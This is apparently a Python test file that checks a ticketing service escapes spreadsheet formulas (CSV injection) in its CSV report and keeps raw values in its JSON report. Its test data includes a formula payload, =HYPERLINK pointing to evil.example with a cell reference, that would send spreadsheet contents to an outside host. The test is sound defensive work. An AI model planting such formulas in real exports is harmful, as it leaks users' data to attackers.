"""CSV injection (OWASP): a report.csv cell that begins with = + - @, TAB
or CR is written with a leading single quote, quoted, so that a spreadsheet
shows the text and never runs it; the JSON report keeps the area as typed.
TAB and CR cannot be typed into an area through the API, so those two are
put into the ticket hash directly, as an older or foreign writer might."""

import csv
import io

from harness import TEST_CLOCK, Antred, Redis, pin_clocks

redis = None
d = None

TYPED = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1", "-1", "@x",
         "=1+1", "RT 01"]
RAW = ["\tx", "\rx"]


def setup_module():
    global redis, d
    redis = Redis()
    pin_clocks(redis, ["demo"])       # the day's report has the day's tickets
    d = Antred(redis.url, **TEST_CLOCK)
    d.wait_redis_up()


def teardown_module():
    try:
        d.stop()
    finally:
        redis.stop()


def test_formulas_are_neutralised():
    ids = []
    for area in TYPED + ["placeholder"] * len(RAW):
        st, _, body = d.post("/v1/events/demo/tickets", {"service": "dose1", "area": area},
                             role="desk")
        assert st == 201, body
        ids.append(body["ticket"]["id"])
    for tid, area in zip(ids[len(TYPED):], RAW):
        redis.cli("HSET", "antre:{demo}:t:" + tid, "area", area)
    want = TYPED + RAW
    st, _, body = d.get("/v1/events/demo/report.csv", role="organiser")
    assert st == 200, body
    text = body.decode("utf-8")
    # byte for byte: the quote inside the cell, and the cell quoted
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"' in text, text
    assert ',"\'+1",' in text and ',"\'-1",' in text and ',"\'@x",' in text, text
    assert ',"\'\tx",' in text and ',"\'\rx",' in text, repr(text)
    assert ",RT 01," in text, text          # plain text stays as it was
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    got = [r["area"] for r in rows]
    assert got == ["'" + a if a[0] in "=+-@\t\r" else a for a in want], got
    for r in rows:                           # no other cell starts a formula
        for k, v in r.items():
            assert not v or v[0] not in "=+@\t\r", (k, v)
    # JSON is data, not a sheet: the area as typed
    st, _, js = d.get("/v1/events/demo/report.json", role="organiser")
    assert st == 200 and [t["area"] for t in js["tickets"]] == want, js
